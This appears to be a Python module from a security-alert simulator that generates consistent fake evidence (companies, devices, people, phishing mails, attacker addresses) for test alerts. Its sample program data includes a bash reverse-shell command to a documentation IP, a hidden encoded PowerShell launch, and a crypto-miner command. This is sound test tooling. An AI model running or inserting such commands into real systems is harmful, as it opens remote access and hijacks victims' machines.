"""Who and what an alert is about: the same people, devices, mails and addresses in all of its evidence.

All names are made up; addresses and domains are of the ranges that are reserved for documentation.
"""

from __future__ import annotations

import functools
import hashlib
import uuid
from dataclasses import dataclass

from airflow_provider_defender.simulator.defender.catalogue import Device, Person, Population
from airflow_provider_defender.simulator.defender.versions import wire_time
from airflow_provider_defender.simulator.server.draw import Draw, draw_for

__all__ = ["Cast", "Company", "Mail", "Place", "Program"]

_SECOND = 10_000_000
_SYSTEM32 = "C:\\Windows\\System32"


@dataclass(frozen=True)
class Place:
    """An address of the internet, and where it is."""

    address: str
    country: str
    country_name: str
    state: str
    city: str
    latitude: float
    longitude: float


@dataclass(frozen=True)
class Program:
    """A file with its folder, and how it is run."""

    name: str
    folder: str
    command: str
    signer: str | None = "Microsoft Windows"

    def hash(self, algorithm: str) -> str:
        """The hash of what the file would hold: md5, sha1 or sha256."""
        text = f"{self.folder}/{self.name}".encode()
        return hashlib.new(algorithm, text, usedforsecurity=False).hexdigest()


@dataclass(frozen=True)
class Mail:
    """A message by mail."""

    network_id: str
    sender: str
    sender_name: str
    recipient: Person
    subject: str
    url: str
    attachment: Program


class Company:
    """What stays the same over all alerts of a tenant."""

    def __init__(self, tenant_id: str, domain: str, population: Population) -> None:
        draw = draw_for(tenant_id, "company")
        self.tenant_id = tenant_id
        self.domain = domain
        self.population = population
        self.subscription = _guid(draw)
        self.resource_group = "shop-prod"
        self.storage = f"shopdata{draw.randrange(100)}"
        self.cluster = f"aks-shop-{draw.randrange(10)}"
        self.registry = f"shop{draw.randrange(100)}.registry.example"
        self.aws_account = f"{draw.randrange(10**11, 10**12)}"
        self.gcp_project = f"shop-{draw.randrange(1000, 9999)}"
        self.gcp_number = draw.randrange(10**11, 10**12)
        self.site = "Plant Ost"

    def resource(self, kind: str, name: str) -> str:
        """The id of an Azure resource of the tenant."""
        group = f"/subscriptions/{self.subscription}/resourceGroups/{self.resource_group}"
        return f"{group}/providers/{kind}/{name}"


_PLACES = (
    ("NL", "Netherlands", "Noord-Holland", "Amsterdam", 52.374, 4.8897),
    ("BR", "Brazil", "São Paulo", "São Paulo", -23.5505, -46.6333),
    ("JP", "Japan", "Tokyo", "Tokyo", 35.6895, 139.6917),
    ("US", "United States", "Virginia", "Ashburn", 39.0438, -77.4874),
    ("DE", "Germany", "Hessen", "Frankfurt am Main", 50.1109, 8.6821),
)
_PROGRAMS = (
    Program(
        "powershell.exe",
        f"{_SYSTEM32}\\WindowsPowerShell\\v1.0",
        "powershell.exe -nop -w hidden -enc SQBFAFgA",
    ),
    Program("rundll32.exe", _SYSTEM32, "rundll32.exe c:\\temp\\suspicious.dll,RepeatAfterMe"),
    Program("lb3.exe", "C:\\Users\\Public", "C:\\Users\\Public\\lb3.exe -pass 9a1f", None),
    Program(
        "winword.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16", 'winword.exe /n "Rechnung.docm"'
    ),
)
_LINUX_PROGRAMS = (
    Program("bash", "/usr/bin", "bash -i >& /dev/tcp/203.0.113.77/4444 0>&1", None),
    Program("xmrig", "/tmp/.x", "./xmrig -o pool.example:3333", None),  # noqa: S108 - where attackers put files
)
_SUBJECTS = ("Your mailbox is almost full", "Rechnung 4471 überfällig", "お支払いの確認", "Re: Re: offer")
_HOSTS = ("cdn.update-check.example", "files.share-now.example", "login.support.example")


#: What stays the same in all evidence of an alert, also in what is found later.
_LASTING = ("device", "colleague", "mail", "place")


class Cast:
    """What one alert is about. `key` decides all of it; `variant` what else was found later."""

    def __init__(self, key: object, company: Company, at: int, variant: object = None) -> None:
        self.key = key
        self.company = company
        self.at = at
        self.variant = variant

    def draw(self, purpose: str) -> Draw:
        """The random numbers for a part of the cast."""
        key = self.key if self.variant is None or purpose in _LASTING else f"{self.key}/{self.variant}"
        return draw_for(self.company.tenant_id, key, purpose)

    def time(self, seconds: float = 0) -> str:
        """The time of the alert, or so many seconds before."""
        return wire_time(self.at - int(seconds * _SECOND))

    def guid(self, purpose: str) -> str:
        """A GUID, the same for the same purpose."""
        return _guid(self.draw(purpose))

    def hexadecimal(self, purpose: str, digits: int) -> str:
        """Hexadecimal digits, the same for the same purpose."""
        return f"{self.draw(purpose).getrandbits(4 * digits):0{digits}x}"

    def number(self, purpose: str, below: int) -> int:
        """A number above 0, the same for the same purpose."""
        return self.draw(purpose).randrange(1, below)

    @functools.cached_property
    def device(self) -> Device:
        """The device that it happened on."""
        return self.draw("device").choice(self.company.population.devices)

    @property
    def person(self) -> Person:
        """Who acts: the usual user of the device."""
        return self.device.person

    @functools.cached_property
    def colleague(self) -> Person:
        """Somebody else."""
        others = [person for person in self.company.population.people if person != self.person]
        return self.draw("colleague").choice(others)

    @property
    def local_address(self) -> str:
        """The device's own address."""
        number = int(self.device.machine_id[:4], 16)
        return f"10.20.{number >> 8}.{number & 255}"

    @functools.cached_property
    def place(self) -> Place:
        """Where the attacker comes from."""
        draw = self.draw("place")
        address = f"{draw.choice(('203.0.113', '198.51.100'))}.{draw.randrange(1, 255)}"
        if draw.random() < 0.2:
            address = f"2001:db8::{draw.randrange(1, 0xFFFF):x}"
        return Place(address, *draw.choice(_PLACES))

    @functools.cached_property
    def url(self) -> str:
        """What was visited or called."""
        draw = self.draw("url")
        return f"https://{draw.choice(_HOSTS)}/{draw.getrandbits(32):08x}?q=1&ü={draw.randrange(100)}"

    @property
    def host(self) -> str:
        """The host of the URL."""
        return self.url.split("/")[2]

    @functools.cached_property
    def program(self) -> Program:
        """What ran."""
        return self.draw("program").choice(_LINUX_PROGRAMS if self.device.linux else _PROGRAMS)

    @property
    def parent(self) -> Program:
        """What started it."""
        if self.device.linux:
            return Program("systemd", "/usr/lib/systemd", "/usr/lib/systemd/systemd")
        return Program("explorer.exe", "C:\\Windows", "C:\\Windows\\Explorer.EXE")

    @functools.cached_property
    def mail(self) -> Mail:
        """The message that it began with."""
        draw = self.draw("mail")
        sender = draw.choice(
            ("billing@pay-now.example", "it-support@contoso-help.example", "ceo@contoso.test")
        )
        return Mail(
            network_id=_guid(draw),
            sender=sender,
            sender_name=draw.choice(("IT Support", "Müller, Änne", "Accounts payable")),
            recipient=self.person,
            subject=draw.choice(_SUBJECTS),
            url=self.url,
            attachment=Program("Rechnung 4471.docm", "", "", None),
        )


def _guid(draw: Draw) -> str:
    return str(uuid.UUID(int=draw.getrandbits(128), version=4))
